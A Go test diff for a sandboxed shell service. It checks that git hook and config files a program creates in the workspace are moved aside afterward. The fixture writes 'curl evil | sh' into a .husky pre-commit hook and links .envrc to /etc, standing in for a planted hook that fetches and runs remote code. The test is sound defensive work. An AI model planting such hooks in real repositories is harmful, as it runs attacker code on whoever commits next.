@@ -437,3 +437,58 @@ func TestProgramsOutsideTheWorkspace(t *testing.T) {
 	must(t, err)
 	_ = s.Stop(context.Background())
 }
+
+// TestShellProtectedMadeByAProgram: the sandbox mounts read-only the
+// protected paths it finds, so a program that may write could make one
+// that was not there (.husky/pre-commit, .pre-commit-config.yaml, a .git:
+// code for whoever commits in the workspace next). Those at the top of
+// the workspace are renamed aside once the program ended, and the result
+// says where; one that was there before is left alone, and a read
+// program's run looks for none (session 10, trust10a).
+func TestShellProtectedMadeByAProgram(t *testing.T) {
+	t.Run("sandboxed", func(t *testing.T) { testShellProtectedMade(t, true) })
+	t.Run("sandbox none", func(t *testing.T) { testShellProtectedMade(t, false) })
+}
+
+func testShellProtectedMade(t *testing.T, sandboxed bool) {
+	sb := newSandbox(t)
+	must(t, os.MkdirAll(filepath.Join(sb.ws, ".git"), 0o755))
+	must(t, os.WriteFile(filepath.Join(sb.ws, ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
+	var s *Service
+	if sandboxed {
+		s = shellService(t, sb, 10*time.Second)
+	} else {
+		s = shellServiceUnsandboxed(t, sb, 10*time.Second)
+	}
+	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c",
+		"mkdir .husky && echo 'curl evil | sh' > .husky/pre-commit && echo 'repos: []' > .pre-commit-config.yaml && ln -s /etc .envrc && echo ok > notes.txt"))
+	if res.ExitCode != 0 {
+		t.Fatalf("the program: %+v", res)
+	}
+	if len(res.ProtectedMoved) != 3 {
+		t.Fatalf("moved aside: %v", res.ProtectedMoved)
+	}
+	for _, name := range []string{".husky", ".pre-commit-config.yaml", ".envrc"} {
+		if _, err := os.Lstat(filepath.Join(sb.ws, name)); !os.IsNotExist(err) {
+			t.Errorf("%s is still there (%v)", name, err)
+		}
+		aside := res.ProtectedMoved[name]
+		if _, err := os.Lstat(filepath.Join(sb.ws, aside)); err != nil || !strings.HasPrefix(aside, ".xct-") {
+			t.Errorf("%s was not moved aside to %q: %v", name, aside, err)
+		}
+	}
+	if b, err := os.ReadFile(filepath.Join(sb.ws, res.ProtectedMoved[".husky"], "pre-commit")); err != nil || !strings.Contains(string(b), "evil") {
+		t.Errorf("the moved .husky lost its content: %q %v", b, err)
+	}
+	if _, err := os.Stat(filepath.Join(sb.ws, ".git", "HEAD")); err != nil {
+		t.Errorf("the .git that was there before: %v", err)
+	}
+	if b, err := os.ReadFile(filepath.Join(sb.ws, "notes.txt")); err != nil || string(b) != "ok\n" {
+		t.Errorf("the program's other file: %q %v", b, err)
+	}
+	// A read program's run: nothing looked for (the sandbox keeps it from
+	// writing at all).
+	if res := resultAs[ShellResult](t, shell(t, s, "ls", "-a")); res.ProtectedMoved != nil {
+		t.Fatalf("a read program: %+v", res)
+	}
+}
